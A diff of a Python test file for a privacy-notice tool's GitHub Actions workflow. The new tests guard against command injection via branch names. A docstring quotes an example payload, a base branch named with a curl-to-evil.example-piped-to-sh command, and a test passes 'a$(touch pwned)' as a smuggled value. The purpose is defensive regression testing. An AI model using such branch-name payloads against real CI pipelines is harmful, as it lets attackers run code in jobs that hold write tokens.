@@ -32,6 +32,16 @@ def steps(job: str) -> list[dict]:
     return [step for step in found["steps"] if "run" in step]
 
 
+def step_env(step: dict, context: dict[str, str]) -> dict[str, str]:
+    """A step's env:, its `${{ github.X }}` read from `context` (the keys after `github.`)."""
+    found = {}
+    for name, value in step.get("env", {}).items():
+        match = re.fullmatch(r"\$\{\{ github\.([\w.]+) \}\}", str(value))
+        assert match and match[1] in context, f"an env: value this test cannot read: {value!r}"
+        found[name] = context[match[1]]
+    return found
+
+
 def runs_on(condition: str | None, context: dict[str, str]) -> bool:
     """A job's `if:` as Actions reads the few forms the workflow uses:
     `github.X == 'v'` and `!=`, joined by `&&`."""
@@ -185,11 +195,13 @@ def test_the_workflow_checks_builds_and_publishes_a_new_project(tmp_path):
 
 def test_the_pull_request_review_step_reports_and_tells_a_significant_change(tmp_path):
     (review_step,) = [step for step in steps("review") if step["run"].startswith("noticegen review")]
-    first = review_step["run"].split("\n")[0].replace('"origin/${{ github.base_ref }}"', "HEAD~1")
+    first = review_step["run"].split("\n")[0]
     assert run("init", "--domain", "www.acme.example", "--effective", "2027-01-01", cwd=tmp_path).code == 0
     fill_placeholders(tmp_path)
     git(tmp_path, "add", "-A")
     git(tmp_path, "commit", "-qm", "Our notice")
+    git(tmp_path, "remote", "add", "origin", str(tmp_path))  # origin/main: the base the pull request is on
+    git(tmp_path, "fetch", "-q", "origin")
     section = tmp_path / "notices" / "010-who-we-are.md"
     section.write_text(section.read_text() + "\nWe sell your email address to advertisers.\n")
     meta = tmp_path / "notices" / "notice.yml"
@@ -201,9 +213,31 @@ def test_the_pull_request_review_step_reports_and_tells_a_significant_change(tmp
     victim.write_text("server { }\n")
     (tmp_path / "review.md").symlink_to(victim)  # what a hostile pull request can commit
     env = {**os.environ, "PATH": f"{Path(sys.executable).parent}{os.pathsep}{os.environ['PATH']}",
-           "RUNNER_TEMP": str(runner_temp)}
+           "RUNNER_TEMP": str(runner_temp),
+           **step_env(review_step, {"base_ref": "main", "event.number": "7", "token": "unused"})}
     result = subprocess.run(first, shell=True, cwd=tmp_path, env=env, capture_output=True, text=True)
     assert result.returncode == 0, result.stderr  # significant (exit 3 or 4) is not a failed step
     assert victim.read_text() == "server { }\n"  # the report is written outside the checkout
     report = (runner_temp / "review.md").read_text()
     assert report.startswith("# Privacy notice review") and "significant" in report.lower()
+
+
+def test_nothing_an_event_names_is_pasted_into_a_script():
+    """`noticegen review "origin/${{ github.base_ref }}"` pasted the branch name
+    into the script before bash read it: a base branch named
+    a$(curl${IFS}evil.example|sh) ran that command in the job holding
+    pull-requests: write. Such values reach a run: only through env:."""
+    jobs = workflow()["jobs"]
+    pasted = [(name, step["run"]) for name, job in jobs.items() for step in job["steps"]
+              if "${{" in step.get("run", "")]
+    assert pasted == []
+    (review_step,) = [step for step in steps("review") if "noticegen review" in step["run"]]
+    assert step_env(review_step, {"base_ref": "a$(touch pwned)", "event.number": "7", "token": "t"}) == {
+        "BASE_REF": "a$(touch pwned)", "PULL_REQUEST": "7", "GH_TOKEN": "t"}
+    # No token stays in .git/config for a later step (the build runs the pull request's mkdocs hooks).
+    for name, job in jobs.items():
+        checkout = next(step for step in job["steps"] if step.get("uses", "").startswith("actions/checkout"))
+        assert checkout["with"]["persist-credentials"] is False, name
+    # One review of a pull request at a time: two pushes in a row make one comment, not two at once.
+    assert jobs["review"]["concurrency"] == {"group": "privacy-notice-review-${{ github.event.number }}",
+                                             "cancel-in-progress": True}
